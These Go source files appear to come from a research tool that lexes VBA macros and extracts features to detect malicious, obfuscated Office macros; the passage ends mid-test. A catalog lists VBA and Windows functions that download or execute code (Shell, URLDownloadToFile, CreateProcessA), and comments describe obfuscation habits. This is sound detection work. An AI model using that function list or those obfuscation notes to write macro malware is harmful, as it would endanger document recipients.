