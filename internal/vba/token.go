// Package vba provides lexical and light syntactic analysis of Visual Basic
// for Applications (VBA) source code.
//
// The lexer understands the VBA constructs that matter for static feature
// extraction and obfuscation analysis: identifiers, keywords, string and
// numeric literals (including &H / &O radix literals and #date# literals),
// comments (both ' and Rem forms), operators, and explicit line
// continuations (space-underscore-newline).
//
// The parser built on top of the lexer is deliberately lightweight: it
// recovers the procedure structure (Sub / Function / Property bodies),
// declarations, and call sites without constructing a full expression AST.
// That is all the detection pipeline in this repository needs, and it keeps
// the parser robust against the intentionally broken code found in
// obfuscated macros (see DESIGN.md and the paper's section VI.B).
package vba

import "fmt"

// Kind identifies the lexical class of a Token.
type Kind int

// Token kinds. KindEOL tokens mark logical line boundaries; physical lines
// joined with a continuation character produce a single logical line and no
// intervening KindEOL.
const (
	KindIdent Kind = iota + 1
	KindKeyword
	KindString
	KindNumber
	KindDate
	KindComment
	KindOperator
	KindPunct
	KindEOL
	KindIllegal
)

// String returns a human-readable name for the kind.
func (k Kind) String() string {
	switch k {
	case KindIdent:
		return "Ident"
	case KindKeyword:
		return "Keyword"
	case KindString:
		return "String"
	case KindNumber:
		return "Number"
	case KindDate:
		return "Date"
	case KindComment:
		return "Comment"
	case KindOperator:
		return "Operator"
	case KindPunct:
		return "Punct"
	case KindEOL:
		return "EOL"
	case KindIllegal:
		return "Illegal"
	default:
		return fmt.Sprintf("Kind(%d)", int(k))
	}
}

// Token is a single lexical unit of VBA source.
type Token struct {
	Kind Kind
	// Text is the raw source text of the token. For KindString it includes
	// the surrounding quotes; use StringValue to decode the literal.
	Text string
	// Line and Col are 1-based physical source coordinates of the first
	// character of the token.
	Line int
	Col  int
}

// StringValue decodes a KindString token's literal value: it strips the
// surrounding quotes and collapses doubled quotes. For other kinds it
// returns Text unchanged.
func (t Token) StringValue() string {
	if t.Kind != KindString {
		return t.Text
	}
	s := t.Text
	if len(s) >= 2 && s[0] == '"' && s[len(s)-1] == '"' {
		s = s[1 : len(s)-1]
	}
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		out = append(out, s[i])
		if s[i] == '"' && i+1 < len(s) && s[i+1] == '"' {
			i++ // collapse escaped quote
		}
	}
	return string(out)
}
