package vba

import (
	"strings"
	"testing"
	"testing/quick"
)

func kinds(toks []Token) []Kind {
	out := make([]Kind, len(toks))
	for i, t := range toks {
		out[i] = t.Kind
	}
	return out
}

func texts(toks []Token, kind Kind) []string {
	var out []string
	for _, t := range toks {
		if t.Kind == kind {
			out = append(out, t.Text)
		}
	}
	return out
}

func TestLexSimpleSub(t *testing.T) {
	src := "Sub Hello()\n    MsgBox \"hi\"\nEnd Sub\n"
	toks := Lex(src)
	want := []struct {
		kind Kind
		text string
	}{
		{KindKeyword, "Sub"}, {KindIdent, "Hello"}, {KindPunct, "("}, {KindPunct, ")"}, {KindEOL, "\n"},
		{KindIdent, "MsgBox"}, {KindString, `"hi"`}, {KindEOL, "\n"},
		{KindKeyword, "End"}, {KindKeyword, "Sub"}, {KindEOL, "\n"},
	}
	if len(toks) != len(want) {
		t.Fatalf("got %d tokens, want %d: %v", len(toks), len(want), toks)
	}
	for i, w := range want {
		if toks[i].Kind != w.kind || toks[i].Text != w.text {
			t.Errorf("token %d = {%v %q}, want {%v %q}", i, toks[i].Kind, toks[i].Text, w.kind, w.text)
		}
	}
}

func TestLexStringEscapes(t *testing.T) {
	toks := Lex(`x = "a""b"`)
	strs := texts(toks, KindString)
	if len(strs) != 1 || strs[0] != `"a""b"` {
		t.Fatalf("strings = %q", strs)
	}
	var tok Token
	for _, tk := range toks {
		if tk.Kind == KindString {
			tok = tk
		}
	}
	if got := tok.StringValue(); got != `a"b` {
		t.Errorf("StringValue = %q, want %q", got, `a"b`)
	}
}

func TestLexUnterminatedStringStopsAtEOL(t *testing.T) {
	toks := Lex("a = \"oops\nb = 1\n")
	strs := texts(toks, KindString)
	if len(strs) != 1 || strs[0] != `"oops` {
		t.Fatalf("strings = %q", strs)
	}
	// The next line must still tokenize.
	ids := texts(toks, KindIdent)
	if len(ids) != 2 || ids[1] != "b" {
		t.Fatalf("idents = %q", ids)
	}
}

func TestLexComments(t *testing.T) {
	src := "' full line\nx = 1 ' trailing\nRem old style\nRemx = 2\n"
	toks := Lex(src)
	comments := texts(toks, KindComment)
	if len(comments) != 3 {
		t.Fatalf("comments = %q, want 3", comments)
	}
	if comments[2] != "Rem old style" {
		t.Errorf("Rem comment = %q", comments[2])
	}
	// "Remx" must be an identifier, not a comment.
	found := false
	for _, id := range texts(toks, KindIdent) {
		if id == "Remx" {
			found = true
		}
	}
	if !found {
		t.Error("Remx not lexed as identifier")
	}
}

func TestLexLineContinuation(t *testing.T) {
	src := "x = 1 + _\n    2\ny = 3\n"
	toks := Lex(src)
	var eols int
	for _, tk := range toks {
		if tk.Kind == KindEOL {
			eols++
		}
	}
	if eols != 2 {
		t.Fatalf("EOL count = %d, want 2 (continuation must fuse lines); tokens: %v", eols, toks)
	}
	// Line numbering continues across the continuation.
	for _, tk := range toks {
		if tk.Kind == KindIdent && tk.Text == "y" && tk.Line != 3 {
			t.Errorf("y on line %d, want 3", tk.Line)
		}
	}
}

func TestLexNumbers(t *testing.T) {
	cases := map[string]string{
		"x = 42":       "42",
		"x = 3.14":     "3.14",
		"x = 1.5E+10":  "1.5E+10",
		"x = &H1F&":    "&H1F&",
		"x = &o17":     "&o17",
		"x = 100&":     "100&",
		"y = 2.5!":     "2.5!",
		"z = 7% + 1":   "7%",
		"w = 1e5 + 2":  "1e5",
		"v = 10# - 1":  "10#",
		"u = 12@ * 2":  "12@",
		"t = 0.5 ^ 2":  "0.5",
		"s = &HABCDEF": "&HABCDEF",
	}
	for src, want := range cases {
		toks := Lex(src)
		nums := texts(toks, KindNumber)
		if len(nums) == 0 || nums[0] != want {
			t.Errorf("Lex(%q) numbers = %q, want first %q", src, nums, want)
		}
	}
}

func TestLexDateLiteral(t *testing.T) {
	toks := Lex("d = #1/15/2020#\n")
	dates := texts(toks, KindDate)
	if len(dates) != 1 || dates[0] != "#1/15/2020#" {
		t.Fatalf("dates = %q", dates)
	}
}

func TestLexOperators(t *testing.T) {
	toks := Lex(`a = b & "x" + c <> d <= e >= f := g`)
	ops := texts(toks, KindOperator)
	want := []string{"=", "&", "+", "<>", "<=", ">=", ":="}
	if len(ops) != len(want) {
		t.Fatalf("ops = %q, want %q", ops, want)
	}
	for i := range want {
		if ops[i] != want[i] {
			t.Errorf("op %d = %q, want %q", i, ops[i], want[i])
		}
	}
}

func TestLexBracketedIdent(t *testing.T) {
	toks := Lex("[End] = 5\n")
	ids := texts(toks, KindIdent)
	if len(ids) != 1 || ids[0] != "[End]" {
		t.Fatalf("idents = %q", ids)
	}
}

func TestLexKeywordsCaseInsensitive(t *testing.T) {
	toks := Lex("SUB x()\nend sub\n")
	kws := texts(toks, KindKeyword)
	if len(kws) != 3 {
		t.Fatalf("keywords = %q", kws)
	}
}

func TestLexPositions(t *testing.T) {
	toks := Lex("ab cd\nef\n")
	wantPos := []struct{ line, col int }{{1, 1}, {1, 4}, {1, 6}, {2, 1}, {2, 3}}
	for i, w := range wantPos {
		if toks[i].Line != w.line || toks[i].Col != w.col {
			t.Errorf("token %d at %d:%d, want %d:%d", i, toks[i].Line, toks[i].Col, w.line, w.col)
		}
	}
}

func TestLexEmptyAndWhitespaceOnly(t *testing.T) {
	if toks := Lex(""); len(toks) != 0 {
		t.Errorf("Lex(\"\") = %v", toks)
	}
	toks := Lex("   \t  ")
	// Whitespace-only input produces at most the synthetic trailing EOL.
	for _, tk := range toks {
		if tk.Kind != KindEOL {
			t.Errorf("unexpected token %v", tk)
		}
	}
}

func TestLexIllegalBytes(t *testing.T) {
	toks := Lex("x = `~\n")
	var illegal int
	for _, tk := range toks {
		if tk.Kind == KindIllegal {
			illegal++
		}
	}
	if illegal != 2 {
		t.Fatalf("illegal tokens = %d, want 2", illegal)
	}
}

func TestLexAlwaysTerminates(t *testing.T) {
	// Property: lexing any byte string terminates and covers the input in
	// the sense that total token text length never exceeds input length
	// plus the synthetic EOL.
	f := func(data []byte) bool {
		src := string(data)
		toks := Lex(src)
		total := 0
		for _, tk := range toks {
			total += len(tk.Text)
		}
		return total <= len(src)+1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestLexRoundTripLineCount(t *testing.T) {
	// Property: for sources without continuations, number of EOL tokens
	// equals the number of non-empty-tail physical lines.
	f := func(lines []string) bool {
		var clean []string
		for _, l := range lines {
			l = strings.Map(func(r rune) rune {
				if r == '\n' || r == '\r' || r == '_' {
					return 'x'
				}
				return r
			}, l)
			clean = append(clean, l)
		}
		src := strings.Join(clean, "\n")
		toks := Lex(src)
		eols := 0
		for _, tk := range toks {
			if tk.Kind == KindEOL {
				eols++
			}
		}
		return eols <= len(clean)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestKindString(t *testing.T) {
	names := map[Kind]string{
		KindIdent: "Ident", KindKeyword: "Keyword", KindString: "String",
		KindNumber: "Number", KindDate: "Date", KindComment: "Comment",
		KindOperator: "Operator", KindPunct: "Punct", KindEOL: "EOL",
		KindIllegal: "Illegal", Kind(99): "Kind(99)",
	}
	for k, want := range names {
		if got := k.String(); got != want {
			t.Errorf("Kind(%d).String() = %q, want %q", int(k), got, want)
		}
	}
}

func TestIsKeyword(t *testing.T) {
	for _, w := range []string{"Sub", "sub", "SUB", "End", "Dim", "xor"} {
		if !IsKeyword(w) {
			t.Errorf("IsKeyword(%q) = false", w)
		}
	}
	for _, w := range []string{"MsgBox", "Shell", "foo", ""} {
		if IsKeyword(w) {
			t.Errorf("IsKeyword(%q) = true", w)
		}
	}
}

func BenchmarkLex(b *testing.B) {
	src := strings.Repeat("Sub Work()\n    Dim i As Long\n    For i = 1 To 100\n        Total = Total + i * 2 ' accumulate\n    Next i\nEnd Sub\n", 50)
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Lex(src)
	}
}
