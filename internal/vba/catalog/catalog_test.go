package catalog

import "testing"

func TestClassify(t *testing.T) {
	cases := []struct {
		name string
		want Class
	}{
		{"Chr", ClassText}, {"chr", ClassText}, {"Chr$", ClassText},
		{"Replace", ClassText}, {"Mid", ClassText}, {"StrReverse", ClassText},
		{"Abs", ClassArithmetic}, {"sqr", ClassArithmetic}, {"Randomize", ClassArithmetic},
		{"CBool", ClassConversion}, {"CSTR", ClassConversion}, {"Hex", ClassConversion},
		{"DDB", ClassFinancial}, {"Pmt", ClassFinancial}, {"SYD", ClassFinancial},
		{"Shell", ClassRich}, {"CallByName", ClassRich}, {"CreateObject", ClassRich},
		{"URLDownloadToFile", ClassRich},
		{"MsgBox", ClassNone}, {"", ClassNone}, {"NotAFunction", ClassNone},
	}
	for _, c := range cases {
		if got := Classify(c.name); got != c.want {
			t.Errorf("Classify(%q) = %v, want %v", c.name, got, c.want)
		}
	}
}

func TestIsBuiltin(t *testing.T) {
	if !IsBuiltin("Shell") || IsBuiltin("frobnicate") {
		t.Error("IsBuiltin misclassifies")
	}
}

func TestMembersDisjointAndCovered(t *testing.T) {
	classes := []Class{ClassText, ClassArithmetic, ClassConversion, ClassFinancial, ClassRich}
	seen := map[string]Class{}
	for _, c := range classes {
		members := Members(c)
		if len(members) == 0 {
			t.Fatalf("Members(%v) empty", c)
		}
		for _, m := range members {
			if prev, dup := seen[m]; dup {
				t.Errorf("function %q in both %v and %v", m, prev, c)
			}
			seen[m] = c
			if got := Classify(m); got != c {
				t.Errorf("Classify(%q) = %v, want %v", m, got, c)
			}
		}
	}
	if Members(ClassNone) != nil {
		t.Error("Members(ClassNone) != nil")
	}
}

func TestMembersReturnsCopy(t *testing.T) {
	a := Members(ClassText)
	a[0] = "Mutated"
	b := Members(ClassText)
	if b[0] == "Mutated" {
		t.Error("Members exposes internal slice")
	}
}

func TestClassString(t *testing.T) {
	want := map[Class]string{
		ClassNone: "none", ClassText: "text", ClassArithmetic: "arithmetic",
		ClassConversion: "conversion", ClassFinancial: "financial", ClassRich: "rich",
	}
	for c, s := range want {
		if c.String() != s {
			t.Errorf("%d.String() = %q, want %q", int(c), c.String(), s)
		}
	}
}
