// Package catalog classifies VBA built-in functions into the functional
// families used by the paper's V8–V12 features (Table IV): text,
// arithmetic, type-conversion, financial, and rich-functionality functions.
//
// The lists follow the examples given in the paper's section IV.C plus the
// remaining members of each family from the VBA language specification
// (MS-VBAL) that the paper points to. Lookup is case-insensitive and
// tolerant of the `$`-suffixed string-returning variants (Chr$, Mid$, ...).
package catalog

import "strings"

// Class identifies a function family.
type Class int

// Function families. ClassNone means the name is not a catalogued built-in.
const (
	ClassNone Class = iota
	ClassText
	ClassArithmetic
	ClassConversion
	ClassFinancial
	ClassRich
)

// String returns the family name.
func (c Class) String() string {
	switch c {
	case ClassText:
		return "text"
	case ClassArithmetic:
		return "arithmetic"
	case ClassConversion:
		return "conversion"
	case ClassFinancial:
		return "financial"
	case ClassRich:
		return "rich"
	default:
		return "none"
	}
}

// textFunctions are the VBA string-manipulation built-ins (feature V8).
// Frequent in O3 encoding obfuscation: Replace/Mid/Chr/Asc chains rebuild
// hidden strings at run time.
var textFunctions = []string{
	"Asc", "AscB", "AscW", "Chr", "ChrB", "ChrW", "Filter", "Format",
	"FormatCurrency", "FormatDateTime", "FormatNumber", "FormatPercent",
	"InStr", "InStrB", "InStrRev", "Join", "LCase", "Left", "LeftB",
	"Len", "LenB", "LTrim", "Mid", "MidB", "MonthName", "Replace",
	"Right", "RightB", "RTrim", "Space", "Split", "Str", "StrComp",
	"StrConv", "String", "StrReverse", "Trim", "UCase", "WeekdayName",
}

// arithmeticFunctions are the VBA math built-ins (feature V9). Custom
// decoders in O3 obfuscation lean on these for index arithmetic.
var arithmeticFunctions = []string{
	"Abs", "Atn", "Cos", "Exp", "Fix", "Int", "Log", "Randomize", "Rnd",
	"Round", "Sgn", "Sin", "Sqr", "Tan",
}

// conversionFunctions are the VBA type-conversion built-ins (feature V10),
// used to shuttle between character codes and numbers in encoders.
var conversionFunctions = []string{
	"CBool", "CByte", "CChar", "CCur", "CDate", "CDbl", "CDec", "CInt",
	"CLng", "CLngLng", "CLngPtr", "CObj", "CSByte", "CShort", "CSng",
	"CStr", "CUInt", "CUIInt", "CULng", "CUShort", "CVar", "CVDate",
	"CVErr", "Hex", "Oct", "Val",
}

// financialFunctions are the VBA accounting built-ins (feature V11). They
// have no business appearing in macro malware except as obfuscator noise,
// which is exactly why their appearance is discriminative.
var financialFunctions = []string{
	"DDB", "FV", "IPmt", "IRR", "MIRR", "NPer", "NPV", "Pmt", "PPmt",
	"PV", "Rate", "SLN", "SYD",
}

// richFunctions can write, download or execute (feature V12): the paper
// names Shell and CallByName and "functions that can write, download, or
// execute files".
var richFunctions = []string{
	"CallByName", "ChDir", "ChDrive", "CreateObject", "DoEvents",
	"Environ", "Eval", "ExecuteExcel4Macro", "FileCopy", "GetObject",
	"Kill", "MkDir", "Open", "Print", "Put", "RmDir", "SaveSetting",
	"SendKeys", "SetAttr", "Shell", "ShellExecute", "URLDownloadToFile",
	"VirtualAlloc", "Write", "WriteLine", "CreateThread",
	"CreateProcessA", "WinExec", "GetProcAddress", "LoadLibraryA",
	"RtlMoveMemory",
}

// byName maps a lower-cased function name to its class.
var byName = func() map[string]Class {
	m := make(map[string]Class, 128)
	add := func(names []string, c Class) {
		for _, n := range names {
			m[strings.ToLower(n)] = c
		}
	}
	add(textFunctions, ClassText)
	add(arithmeticFunctions, ClassArithmetic)
	add(conversionFunctions, ClassConversion)
	add(financialFunctions, ClassFinancial)
	add(richFunctions, ClassRich)
	return m
}()

// Classify returns the family of a called function name. Trailing `$`
// (string-variant suffix) is ignored, as is case.
func Classify(name string) Class {
	return byName[strings.ToLower(strings.TrimSuffix(name, "$"))]
}

// IsBuiltin reports whether name is in any catalogued family.
func IsBuiltin(name string) bool { return Classify(name) != ClassNone }

// Members returns a copy of the member list of a class, for documentation
// and generator use. The result is nil for ClassNone.
func Members(c Class) []string {
	var src []string
	switch c {
	case ClassText:
		src = textFunctions
	case ClassArithmetic:
		src = arithmeticFunctions
	case ClassConversion:
		src = conversionFunctions
	case ClassFinancial:
		src = financialFunctions
	case ClassRich:
		src = richFunctions
	default:
		return nil
	}
	out := make([]string, len(src))
	copy(out, src)
	return out
}
