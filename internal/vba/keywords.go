package vba

import "strings"

// keywords is the set of reserved words of the VBA language (MS-VBAL §3.3.5)
// plus the handful of marker words (Attribute, Rem) that behave like
// keywords in module streams. Lookup is case-insensitive, as VBA is.
var keywords = func() map[string]bool {
	words := []string{
		"Abs", "AddressOf", "Alias", "And", "Any", "Append", "As",
		"Attribute", "Base", "Binary", "Boolean", "ByRef", "Byte", "ByVal",
		"Call", "Case", "CBool", "CByte", "CCur", "CDate", "CDbl", "CDec",
		"CInt", "CLng", "CLngLng", "CLngPtr", "Close", "Compare", "Const",
		"CSng", "CStr", "Currency", "CVar", "CVErr", "Date", "Debug",
		"Decimal", "Declare", "DefBool", "DefByte", "DefCur", "DefDate",
		"DefDbl", "DefInt", "DefLng", "DefObj", "DefSng", "DefStr", "DefVar",
		"Dim", "Do", "Double", "Each", "Else", "ElseIf", "Empty", "End",
		"EndIf", "Enum", "Eqv", "Erase", "Error", "Event", "Exit",
		"Explicit", "False", "For", "Friend", "Function", "Get", "Global",
		"GoSub", "GoTo", "If", "Imp", "Implements", "In", "Input", "Integer",
		"Is", "LBound", "Len", "Let", "Lib", "Like", "Line", "Lock", "Long",
		"LongLong", "LongPtr", "Loop", "LSet", "Me", "Mid", "Mod", "Module",
		"New", "Next", "Not", "Nothing", "Null", "Object", "On", "Open",
		"Option", "Optional", "Or", "Output", "ParamArray", "Preserve",
		"Print", "Private", "Property", "Public", "Put", "RaiseEvent",
		"Random", "Read", "ReDim", "Rem", "Resume", "Return", "RSet",
		"Seek", "Select", "Set", "Shared", "Single", "Spc", "Static",
		"Step", "Stop", "String", "Sub", "Tab", "Then", "To", "True",
		"Type", "TypeOf", "UBound", "Until", "Variant", "Wend", "While",
		"With", "WithEvents", "Write", "Xor",
	}
	m := make(map[string]bool, len(words))
	for _, w := range words {
		m[strings.ToLower(w)] = true
	}
	return m
}()

// maxKeywordLen bounds the stack buffer used for case folding. No keyword
// is longer, and no longer ASCII word can be one.
const maxKeywordLen = 16

// IsKeyword reports whether word is a reserved word of VBA. The check is
// case-insensitive and allocation-free for ASCII words (the lexer calls it
// for every identifier-shaped token).
func IsKeyword(word string) bool {
	if len(word) > maxKeywordLen {
		return false
	}
	var buf [maxKeywordLen]byte
	for i := 0; i < len(word); i++ {
		c := word[i]
		if c >= 0x80 {
			// Unicode case folding can reach ASCII (e.g. the Kelvin sign
			// lowercases to 'k'); defer to the full lowering.
			return keywords[strings.ToLower(word)]
		}
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		buf[i] = c
	}
	return keywords[string(buf[:len(word)])]
}
