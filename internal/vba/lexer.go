package vba

import (
	"fmt"
	"strings"
	"sync"

	"repro/internal/hostile"
)

// Lex tokenizes VBA source code. It never fails: characters that do not
// start any known token are emitted as KindIllegal tokens so that feature
// extraction keeps working on intentionally broken macros.
//
// Physical lines joined by the VBA continuation sequence (space underscore
// end-of-line) are fused into one logical line: the continuation itself
// produces no token and no KindEOL is emitted at the break.
func Lex(src string) []Token {
	toks, _ := LexBudget(src, nil)
	return toks
}

// LexBudget is Lex under a resource budget: the scan stops after the
// budget's remaining token allowance, returning the tokens produced so far
// alongside a hostile.ErrLimitExceeded error. Tokens produced are charged
// against the budget so repeated modules share one per-document allowance.
// A nil budget disables the limit.
func LexBudget(src string, bud *hostile.Budget) ([]Token, error) {
	scratch := tokScratchPool.Get().(*[]Token)
	lx := lexer{src: src, line: 1, col: 1, maxTokens: bud.TokenAllowance(), toks: (*scratch)[:0]}
	scratchToks := lx.run()
	toks := make([]Token, len(scratchToks))
	copy(toks, scratchToks)
	clear(scratchToks) // drop the Text references before pooling
	*scratch = scratchToks[:0]
	if cap(scratchToks) <= maxPooledTokens {
		tokScratchPool.Put(scratch)
	}
	chargeErr := bud.AddTokens(int64(len(toks)))
	if lx.overflow {
		if chargeErr == nil {
			chargeErr = bud.AddTokens(1)
		}
		return toks, fmt.Errorf("vba: lexer stopped at line %d after %d tokens: %w",
			lx.line, len(toks), chargeErr)
	}
	return toks, chargeErr
}

// tokScratchPool recycles lexer token buffers: the lexer appends into a
// pooled buffer and LexBudget copies the exact-size result out, so steady
// state lexing pays one right-sized allocation instead of a growth series.
var tokScratchPool = sync.Pool{New: func() any {
	s := make([]Token, 0, 256)
	return &s
}}

// maxPooledTokens caps the buffers the pool retains; a pathological
// document should not pin a huge scratch slice for the process lifetime.
const maxPooledTokens = 1 << 14

type lexer struct {
	src       string
	pos       int
	line      int
	col       int
	toks      []Token
	maxTokens int64
	overflow  bool
}

func (lx *lexer) run() []Token {
	for lx.pos < len(lx.src) {
		if int64(len(lx.toks)) >= lx.maxTokens {
			lx.overflow = true
			return lx.toks
		}
		c := lx.src[lx.pos]
		switch {
		case c == '\r' || c == '\n':
			lx.lexEOL()
		case c == ' ' || c == '\t':
			if lx.tryContinuation() {
				continue
			}
			lx.advance(1)
		case c == '\'':
			lx.lexComment(1)
		case c == '"':
			lx.lexString()
		case c == '#':
			lx.lexDateOrHash()
		case c >= '0' && c <= '9':
			lx.lexNumber()
		case c == '&':
			lx.lexAmp()
		case isIdentStart(c):
			lx.lexWord()
		case c == '[':
			lx.lexBracketIdent()
		default:
			lx.lexOperatorOrPunct()
		}
	}
	// Terminate the final logical line so downstream line iteration is
	// uniform even when the source lacks a trailing newline.
	if n := len(lx.toks); n > 0 && lx.toks[n-1].Kind != KindEOL {
		lx.emitAt(KindEOL, "", lx.line, lx.col)
	}
	return lx.toks
}

// tryContinuation consumes a " _<eol>" sequence. It must only be attempted
// when positioned at whitespace.
func (lx *lexer) tryContinuation() bool {
	i := lx.pos
	for i < len(lx.src) && (lx.src[i] == ' ' || lx.src[i] == '\t') {
		i++
	}
	if i >= len(lx.src) || lx.src[i] != '_' {
		return false
	}
	j := i + 1
	if j < len(lx.src) && lx.src[j] == '\r' {
		j++
	}
	if j < len(lx.src) && lx.src[j] == '\n' {
		j++
	} else if j < len(lx.src) && lx.src[j-1] != '\r' {
		// An underscore not immediately followed by EOL is an identifier
		// start or illegal; not a continuation.
		return false
	}
	lx.pos = j
	lx.line++
	lx.col = 1
	return true
}

func (lx *lexer) lexEOL() {
	startLine, startCol := lx.line, lx.col
	if lx.src[lx.pos] == '\r' {
		lx.pos++
		if lx.pos < len(lx.src) && lx.src[lx.pos] == '\n' {
			lx.pos++
		}
	} else {
		lx.pos++
	}
	lx.emitAt(KindEOL, "\n", startLine, startCol)
	lx.line++
	lx.col = 1
}

// lexComment consumes from the current position to (not including) the end
// of the physical line. skip is the length of the comment introducer already
// verified by the caller (1 for "'", 3 for "Rem").
func (lx *lexer) lexComment(skip int) {
	start := lx.pos
	startLine, startCol := lx.line, lx.col
	lx.pos += skip
	for lx.pos < len(lx.src) && lx.src[lx.pos] != '\n' && lx.src[lx.pos] != '\r' {
		lx.pos++
	}
	lx.col += lx.pos - start
	lx.emitAt(KindComment, lx.src[start:lx.pos], startLine, startCol)
}

func (lx *lexer) lexString() {
	start := lx.pos
	startLine, startCol := lx.line, lx.col
	lx.pos++ // opening quote
	for lx.pos < len(lx.src) {
		c := lx.src[lx.pos]
		if c == '\n' || c == '\r' {
			break // unterminated string: stop at EOL like the VBA editor
		}
		if c == '"' {
			if lx.pos+1 < len(lx.src) && lx.src[lx.pos+1] == '"' {
				lx.pos += 2 // escaped quote
				continue
			}
			lx.pos++
			break
		}
		lx.pos++
	}
	lx.col += lx.pos - start
	lx.emitAt(KindString, lx.src[start:lx.pos], startLine, startCol)
}

// lexDateOrHash handles #...# date literals and the bare '#' type suffix /
// file-number punctuation. A date literal must close on the same line.
func (lx *lexer) lexDateOrHash() {
	i := lx.pos + 1
	for i < len(lx.src) && lx.src[i] != '\n' && lx.src[i] != '\r' && lx.src[i] != '#' {
		i++
	}
	if i < len(lx.src) && lx.src[i] == '#' && i > lx.pos+1 {
		startLine, startCol := lx.line, lx.col
		text := lx.src[lx.pos : i+1]
		lx.col += len(text)
		lx.pos = i + 1
		lx.emitAt(KindDate, text, startLine, startCol)
		return
	}
	lx.emitAt(KindPunct, "#", lx.line, lx.col)
	lx.pos++
	lx.col++
}

func (lx *lexer) lexNumber() {
	start := lx.pos
	startLine, startCol := lx.line, lx.col
	for lx.pos < len(lx.src) && isDigit(lx.src[lx.pos]) {
		lx.pos++
	}
	if lx.pos < len(lx.src) && lx.src[lx.pos] == '.' {
		lx.pos++
		for lx.pos < len(lx.src) && isDigit(lx.src[lx.pos]) {
			lx.pos++
		}
	}
	// Exponent part: 1.5E+10
	if lx.pos < len(lx.src) && (lx.src[lx.pos] == 'e' || lx.src[lx.pos] == 'E') {
		j := lx.pos + 1
		if j < len(lx.src) && (lx.src[j] == '+' || lx.src[j] == '-') {
			j++
		}
		if j < len(lx.src) && isDigit(lx.src[j]) {
			lx.pos = j
			for lx.pos < len(lx.src) && isDigit(lx.src[lx.pos]) {
				lx.pos++
			}
		}
	}
	// Type suffix: % & ! # @ ^
	if lx.pos < len(lx.src) && strings.IndexByte("%&!#@^", lx.src[lx.pos]) >= 0 {
		lx.pos++
	}
	lx.col += lx.pos - start
	lx.emitAt(KindNumber, lx.src[start:lx.pos], startLine, startCol)
}

// lexAmp distinguishes &H.. / &O.. radix literals from the & concatenation
// operator.
func (lx *lexer) lexAmp() {
	if lx.pos+1 < len(lx.src) {
		next := lx.src[lx.pos+1]
		if next == 'H' || next == 'h' {
			lx.lexRadix(isHexDigit)
			return
		}
		if next == 'O' || next == 'o' {
			lx.lexRadix(isOctalDigit)
			return
		}
	}
	lx.emitAt(KindOperator, "&", lx.line, lx.col)
	lx.pos++
	lx.col++
}

func (lx *lexer) lexRadix(valid func(byte) bool) {
	start := lx.pos
	startLine, startCol := lx.line, lx.col
	lx.pos += 2
	for lx.pos < len(lx.src) && valid(lx.src[lx.pos]) {
		lx.pos++
	}
	if lx.pos < len(lx.src) && (lx.src[lx.pos] == '&' || lx.src[lx.pos] == '%') {
		lx.pos++ // integer type suffix
	}
	lx.col += lx.pos - start
	lx.emitAt(KindNumber, lx.src[start:lx.pos], startLine, startCol)
}

func (lx *lexer) lexWord() {
	start := lx.pos
	startLine, startCol := lx.line, lx.col
	for lx.pos < len(lx.src) && isIdentPart(lx.src[lx.pos]) {
		lx.pos++
	}
	word := lx.src[start:lx.pos]
	// Identifier type suffix characters bind to the identifier.
	if lx.pos < len(lx.src) && strings.IndexByte("%&!#@$", lx.src[lx.pos]) >= 0 {
		lx.pos++
	}
	lx.col += lx.pos - start
	if strings.EqualFold(word, "Rem") {
		// Rem starts a comment that runs to end of line; rewind to lex it
		// as a single comment token.
		lx.pos = start
		lx.col = startCol
		lx.lexComment(3)
		return
	}
	text := lx.src[start : start+len(word)]
	if IsKeyword(word) {
		lx.emitAt(KindKeyword, text, startLine, startCol)
	} else {
		lx.emitAt(KindIdent, text, startLine, startCol)
	}
}

// lexBracketIdent consumes a [bracketed identifier], used in VBA to escape
// names that collide with keywords.
func (lx *lexer) lexBracketIdent() {
	start := lx.pos
	startLine, startCol := lx.line, lx.col
	lx.pos++
	for lx.pos < len(lx.src) && lx.src[lx.pos] != ']' && lx.src[lx.pos] != '\n' && lx.src[lx.pos] != '\r' {
		lx.pos++
	}
	if lx.pos < len(lx.src) && lx.src[lx.pos] == ']' {
		lx.pos++
	}
	lx.col += lx.pos - start
	lx.emitAt(KindIdent, lx.src[start:lx.pos], startLine, startCol)
}

func (lx *lexer) lexOperatorOrPunct() {
	startLine, startCol := lx.line, lx.col
	c := lx.src[lx.pos]
	// Two-character comparison operators.
	if lx.pos+1 < len(lx.src) {
		two := lx.src[lx.pos : lx.pos+2]
		switch two {
		case "<>", "<=", ">=", ":=":
			lx.pos += 2
			lx.col += 2
			lx.emitAt(KindOperator, two, startLine, startCol)
			return
		}
	}
	lx.pos++
	lx.col++
	switch c {
	case '+', '-', '*', '/', '\\', '^', '=', '<', '>':
		lx.emitAt(KindOperator, string(c), startLine, startCol)
	case '(', ')', ',', '.', ':', ';', '!', '?', '$', '@', '%', '{', '}', ']':
		lx.emitAt(KindPunct, string(c), startLine, startCol)
	default:
		lx.emitAt(KindIllegal, string(c), startLine, startCol)
	}
}

func (lx *lexer) advance(n int) {
	lx.pos += n
	lx.col += n
}

func (lx *lexer) emitAt(kind Kind, text string, line, col int) {
	lx.toks = append(lx.toks, Token{Kind: kind, Text: text, Line: line, Col: col})
}

func isDigit(c byte) bool      { return c >= '0' && c <= '9' }
func isHexDigit(c byte) bool   { return isDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F') }
func isOctalDigit(c byte) bool { return c >= '0' && c <= '7' }

func isIdentStart(c byte) bool {
	return c == '_' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

func isIdentPart(c byte) bool { return isIdentStart(c) || isDigit(c) }
