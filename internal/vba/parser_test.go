package vba

import (
	"strings"
	"testing"
)

const sampleMacro = `Attribute VB_Name = "Module1"
Option Explicit

Public Const Greeting As String = "hello"
Private total As Long, count As Integer
Dim shared_buf(100) As Byte

Sub StartCalculator()
    Dim Program As String
    Dim TaskID As Double
    On Error Resume Next
    Program = "calc.exe"
    TaskID = Shell(Program, 1)
    If Err <> 0 Then
        MsgBox "Can't start " & Program
    End If
End Sub

Function Add(ByVal a As Long, Optional b As Long = 2) As Long
    Add = a + b
